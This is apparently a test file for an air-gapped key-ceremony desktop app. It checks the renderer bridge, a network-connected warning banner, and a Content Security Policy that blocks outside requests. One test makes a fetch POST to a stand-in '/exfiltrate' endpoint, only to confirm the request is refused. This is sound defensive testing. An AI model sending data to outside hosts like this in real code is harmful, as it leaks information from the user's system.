// The shell around the wizard: the bridge works, the air-gap banner shows
// when main reports a network interface up, and the page's CSP refuses any
// request that is not for the app's own files.
import { test, expect } from './fixtures.js';

test('the renderer loads through the bridge and reads the ceremony state', async ({ app, bridge }) => {
  await expect(app.getByRole('heading', { level: 1 })).toContainText('Key Ceremony');
  await expect.poll(() => bridge.calls.some((c) => c.channel === 'ceremony:state' && c.ok)).toBe(true);
  await expect(app.getByRole('alert')).toHaveCount(0); // no network banner on an air-gapped machine
});

test.describe('the air gap in the page', () => {
  test.use({ expectedConsoleErrors: /Content Security Policy/ });
  test('the page cannot reach anything but its own files', async ({ app }) => {
    const outcome = await app.evaluate(async () => {
      const violations: string[] = [];
      document.addEventListener('securitypolicyviolation', (e) => violations.push(e.violatedDirective));
      let fetched = 'no';
      try {
        await fetch('http://198.51.100.7/exfiltrate', { method: 'POST', body: 'x' });
        fetched = 'yes';
      } catch {
        fetched = 'refused';
      }
      await new Promise((r) => setTimeout(r, 100));
      return { fetched, violations };
    });
    expect(outcome.fetched).toBe('refused');
    expect(outcome.violations).toContain('connect-src');
  });
});

test.describe('on a workstation with a network interface up', () => {
  test.use({ networkUp: ['eth0'] });
  test('a banner warns that the workstation is connected to a network', async ({ app }) => {
    const banner = app.getByRole('alert').filter({ hasText: 'This workstation is connected to a network' });
    await expect(banner).toBeVisible();
    await expect(banner).toContainText('eth0');
  });
});
